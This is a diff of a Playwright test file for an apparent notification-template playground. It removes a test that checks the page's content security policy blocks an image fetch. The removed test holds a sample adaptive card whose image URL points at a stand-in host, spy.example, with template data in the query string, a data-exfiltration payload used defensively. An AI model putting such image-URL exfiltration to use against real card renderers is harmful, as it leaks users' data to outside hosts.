@@ -62,28 +62,6 @@ test.describe('the preview', () => {
   });
 });
 
-test('a picture in a card is not fetched, because its address could carry the payload away', async ({
-  page,
-  complaints,
-}) => {
-  complaints.expect(/img-src/);
-  const refused: (string | undefined)[] = [];
-  page.on('requestfailed', (request) => {
-    if (request.url().includes('spy.example')) refused.push(request.failure()?.errorText);
-  });
-  const playground = new PlaygroundPage(page);
-  await playground.open();
-  await playground.preset('Microsoft Teams', 'robust');
-  await playground.fill(
-    playground.template,
-    '{"type": "message", "attachments": [{"contentType": "application/vnd.microsoft.card.adaptive", "content": {"type": "AdaptiveCard", "version": "1.2", "body": [{"type": "TextBlock", "text": "drawn"}, {"type": "Image", "url": "https://spy.example/?{{ .Status }}"}]}}]}',
-  );
-  await playground.tab('Preview');
-  await expect(page.getByRole('group', { name: 'Microsoft Teams preview' })).toContainText('drawn');
-  // By the page's policy, before anything is sent.
-  await expect.poll(() => refused).toEqual(['csp']);
-});
-
 test.describe('the grid', () => {
   test('shows what breaks, and opens it', async ({ page }) => {
     const playground = new PlaygroundPage(page);
